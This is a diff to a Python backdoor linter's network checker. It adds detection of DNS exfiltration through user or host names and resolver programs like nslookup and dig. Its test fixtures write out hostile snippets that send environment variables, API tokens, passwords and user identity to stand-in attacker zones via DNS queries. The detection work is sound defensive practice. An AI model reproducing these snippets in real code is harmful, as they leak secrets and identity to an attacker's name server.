@@ -15,6 +15,7 @@ from backdoor_lint.checkers.py_dataflow import (
     ENVIRONMENT,
     EXFIL_KINDS,
     HOLE,
+    IDENTITY,
     PROCESS_FUNCTION_NAMED,
     SECRET,
     SHELL_FUNCTIONS,
@@ -25,7 +26,7 @@ from backdoor_lint.checkers.py_dataflow import (
     dataflow,
 )
 from backdoor_lint.checkers.tree import visit_tree
-from backdoor_lint.checkers.vocabulary import DECODERS, exfil_service, raw_ip
+from backdoor_lint.checkers.vocabulary import DECODERS, DNS_TOOLS, exfil_service, raw_ip
 
 # Calls that run a function they are handed (now, in the background, or at exit).
 RUNNERS = {"threading.Thread", "threading.Timer", "atexit.register", "multiprocessing.Process", "asyncio.run",
@@ -33,6 +34,7 @@ RUNNERS = {"threading.Thread", "threading.Timer", "atexit.register", "multiproce
            "asyncio.get_event_loop.run_until_complete", "asyncio.ensure_future", "asyncio.create_task"}
 SPECIAL_FILES = {"setup.py", "conftest.py", "__init__.py", "sitecustomize.py", "usercustomize.py"}
 PAYLOAD_KEYWORDS = {"data", "json", "content", "files", "body", "params", "msg", "message", "fields", "payload"}
+LOCAL_SUFFIX = re.compile(r"\.(local|localdomain|lan|internal|intranet|home\.arpa|localhost)\.?$", re.IGNORECASE)
 HIDING_CALLS = DECODERS | {"chr", "reversed", "codecs.decode", "codecs.encode"}
 # Files that import no network, process or DNS module and call no process function are never parsed
 # for this checker (getattr/__import__ evasions still need the module: `__import__` is in here).
@@ -95,7 +97,7 @@ class NetworkChecker(PythonChecker):
         call = sink.call
         label = f"{self.context.code(call.func)}()"
         destination = self.flow.destination(sink)
-        where = self._import_time(call)
+        where = self._import_time(call) if sink.spec.connects else None
         if where and not self._local_lookup(sink, destination):
             self.report(call, "BDL401", f"{label} runs {where}: every import (or install, or test run) makes "
                         "this network request without anyone calling it")
@@ -207,7 +209,8 @@ class NetworkChecker(PythonChecker):
             return
         if sink.kind in ("http", "ws") and host_part.strip(HOLE + ":0123456789") == "":
             return
-        taints = [t for t in self.flow.taints(destination) if t.kind in EXFIL_KINDS or t.encoded]
+        taints = [t for t in self.flow.taints(destination) if t.kind in EXFIL_KINDS or t.encoded
+                   or t.kind == IDENTITY and self._identity_beacon(t, sink, host_part)]
         if not taints:
             return
         sources = ", ".join(t.describe() for t in _sorted(taints)[:3])
@@ -215,6 +218,15 @@ class NetworkChecker(PythonChecker):
         self.report(sink.call, "BDL404", f"{label} resolves a host name built from{encoded} {sources} "
                     f"(`{rendered.replace(HOLE, '{…}')}`): the attacker's name server receives the data in the "
                     "DNS query itself, through any firewall that allows DNS")
+
+    @staticmethod
+    def _identity_beacon(taint, sink: Sink | None, host_part: str) -> bool:
+        """The user or host name as a label of a name in someone's zone (`f"{getuser()}.t.example"`).
+        The machine's own name under a local-network suffix (`host + ".local"`, mDNS, search
+        domains) is a lookup of itself; host names in HTTP URLs are the service's own peers."""
+        if sink is not None and sink.kind in ("http", "ws"):
+            return "host name" not in taint.label
+        return "host name" not in taint.label or not LOCAL_SUFFIX.search(host_part)
 
     def _check_exfiltration(self, sink: Sink, destination: cst.BaseExpression | None, label: str,
                             hidden: bool) -> None:
@@ -263,6 +275,7 @@ class NetworkChecker(PythonChecker):
         if downloaded:
             self.report(call, "BDL405", f"{self.context.code(call.func)}() runs {program}, a file downloaded by "
                         f"{downloaded}: the program that runs is whatever that server sent")
+        self._check_dns_tool(call, rendered, command)
         if not analysis.network:
             return
         label = f"{self.context.code(call.func)}()"
@@ -281,6 +294,24 @@ class NetworkChecker(PythonChecker):
             self.report(call, "BDL402", f"{', '.join(sources[:3])} is sent out by `{tool}` via {label} "
                         f"(line {self.flow.line(call)}): whoever runs that endpoint receives it")
         self._check_shell_destinations(call, label, analysis)
+
+    def _check_dns_tool(self, call: cst.Call, rendered: str, command: cst.BaseExpression) -> None:
+        """BDL404 through a resolver program: `nslookup`/`dig`/`host` of a name built from secrets,
+        the environment or who runs the code."""
+        words = [w.strip("'\"") for w in rendered.split()]
+        tool = words[0].rsplit("/", 1)[-1] if words else ""
+        if tool not in DNS_TOOLS:
+            return
+        names = [w for w in words[1:] if HOLE in w and "." in w.replace(HOLE, "")]
+        if not names:
+            return
+        taints = [t for t in self.flow.taints(command) if t.kind in EXFIL_KINDS or t.encoded
+                  or t.kind == IDENTITY and self._identity_beacon(t, None, names[0])]
+        if taints:
+            sources = ", ".join(t.describe() for t in _sorted(taints)[:3])
+            self.report(call, "BDL404", f"{self.context.code(call.func)}() runs `{tool}` on a host name built from "
+                        f"{sources} (`{names[0].replace(HOLE, '{…}')}`): the attacker's name server receives the data "
+                        "in the DNS query itself, through any firewall that allows DNS")
 
     def _check_shell_destinations(self, call: cst.Call, label: str, analysis) -> None:
         """BDL403: a network program of the command talks to a raw IP or a known exfiltration service."""
@@ -381,7 +412,7 @@ class NetworkChecker(PythonChecker):
                 current = self.stack[-1]
                 sink = flow.sink_of(node)
                 shell = flow.shell_call(node) if sink is None else None
-                if sink is not None and id(current) not in direct:
+                if sink is not None and sink.spec.connects and id(current) not in direct:
                     direct[id(current)] = f"{checker.context.code(node.func)}(), line {flow.line(node)}"
                 elif shell is not None and id(current) not in direct:
                     uses = analyse_command(flow.shell_command(shell[1])).network
@@ -484,10 +515,22 @@ class NetworkChecker(PythonChecker):
         Valid('from urllib3 import PoolManager\n_POOL = PoolManager()\n'
               'def request(method, url, **kw):\n    return _POOL.request(method, url, **kw)\n',
               "BDL401", path="pkg/__init__.py"),
+        # clients built at import time connect on their first request, not when constructed
+        Valid('import http.client, xmlrpc.client, httpx, requests\nCONN = http.client.HTTPSConnection("api.example.com")\n'
+              'RPC = xmlrpc.client.ServerProxy("https://rpc.example.com/RPC2")\nCLIENT = httpx.Client(base_url="https://api.'
+              'example.com")\nSESSION = requests.Session()\n', "BDL401"),
         # a local object with a post method; private IP address
         Valid('class Board:\n    def post(self, url, json=None): ...\nrequests = Board()\n'
               'requests.post("https://x.example", json=dict(__import__("os").environ))\n', "BDL402"),
         Valid('import requests\ndef status():\n    return requests.get("http://10.0.0.5:8080/status")\n', "BDL403"),
+        # the machine's own name, alone or under a local-network suffix; a resolver program on a constant name
+        Valid('import socket\ndef me():\n    return socket.gethostbyname(socket.gethostname() + ".local")\n', "BDL404"),
+        Valid('import socket\ndef peers(hosts):\n    return [socket.getaddrinfo(f"{h}.svc.cluster.example", 443) for h in hosts]\n',
+              "BDL404"),
+        Valid('import subprocess\ndef check():\n    return subprocess.run(["dig", "+short", "example.org"]).returncode\n',
+              "BDL404"),
+        Valid('import socket, requests\ndef metrics():\n'
+              '    return requests.get(f"http://{socket.gethostname()}.corp.example:9100/metrics")\n', "BDL404"),
         Valid('import socket\nhostname, _, ips = socket.gethostbyname_ex(socket.gethostname())\n'
               'INTERNAL_IPS = [ip[:-1] + "1" for ip in ips]\n', "BDL404"),
         Valid('import requests\nHOST = "api." + "example.com"\ndef f():\n    return requests.get(f"https://{HOST}/v1")\n',
@@ -501,6 +544,9 @@ class NetworkChecker(PythonChecker):
     INVALID = [
         # BDL401: module level, class body, decorator, default argument, through a local function
         Invalid('import requests\nrequests.post("https://metrics.example/ping", json={"v": 1})\n', "BDL401", 2),
+        # ... but using one at import time sends
+        Invalid('import http.client\nCONN = http.client.HTTPSConnection("api.example.com")\nCONN.request("GET", "/v1/hello")\n',
+                "BDL401", 3),
         # the import hidden in a compound statement's line, or bound to another name
         Invalid('import os\ntry: import requests\nexcept ImportError: pass\n'
                 'requests.post("https://c.example/x", data=dict(os.environ))\n', "BDL402", 4),
@@ -590,6 +636,18 @@ class NetworkChecker(PythonChecker):
                 '        socket.gethostbyname(f"{c}.{i}.{ZONE}")\n', "BDL404", 9),
         Invalid('import os\nimport dns.resolver\ndef f():\n'
                 '    dns.resolver.resolve(os.environ["DB_PASSWORD"] + ".x.example", "A")\n', "BDL404", 4),
+        # who runs the code, as a label of a name in someone's zone: user name, host name, working directory;
+        # through a variable, a join, an async resolver, a resolver program
+        Invalid('import getpass, socket\ndef f():\n    socket.gethostbyname_ex(f"{getpass.getuser()}.t.example")\n',
+                "BDL404", 3),
+        Invalid('import socket\nfrom platform import node as n\ndef f():\n    who = ".".join([n(), "c2", "example"])\n'
+                '    socket.getaddrinfo(who, 80)\n', "BDL404", 5),
+        Invalid('import os, aiodns\nasync def f():\n    r = aiodns.DNSResolver()\n'
+                '    await r.query(os.getcwd().replace("/", "-") + ".t.example", "A")\n', "BDL404", 4),
+        Invalid('import base64, os, subprocess\ndef f():\n    u = base64.b32encode(os.getlogin().encode()).decode()\n'
+                '    subprocess.run(["nslookup", u + ".t.example"])\n', "BDL404", 4),
+        Invalid('import os, subprocess\ndef f():\n    subprocess.call("dig +short %s.t.example" % os.environ["API_TOKEN"], '
+                'shell=True)\n', "BDL404", 3),
         # BDL405: running a program this module downloaded (what the command text itself does is
         # py_shell.ShellCommandChecker's, with its examples)
         Invalid('import os, subprocess, urllib.request\nDEST = "/tmp/agent"\ndef f():\n'
